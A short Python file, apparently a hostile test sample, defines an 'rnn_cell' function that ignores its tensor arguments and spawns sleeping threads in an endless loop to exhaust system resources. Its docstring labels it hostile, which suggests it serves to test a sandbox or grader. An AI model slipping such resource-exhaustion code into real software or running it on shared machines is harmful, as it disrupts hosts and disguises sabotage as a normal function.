"""Hostile: starts threads that sleep, as many as there can be."""

import threading
import time

import torch


def rnn_cell(X, H, W_xh, W_hh, b_h):
    while True:
        threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
